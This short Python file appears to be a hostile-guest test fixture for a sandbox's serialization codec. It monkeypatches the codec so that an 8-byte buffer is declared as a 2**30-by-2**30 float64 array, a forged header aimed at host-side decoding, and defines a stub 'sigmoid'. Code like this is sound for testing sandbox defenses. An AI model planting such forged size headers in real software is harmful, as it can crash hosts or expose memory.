import sys
import numpy as np

codec = sys.modules["guest.codec"]

def lie(self, value, number):
    self._body.append(b"\0" * 8)
    return [codec.ARRAY, number, "<f8", 0, True, 2**30, 2**30]

codec.Codec._array_content = lie

def sigmoid(x): return np.zeros(3)
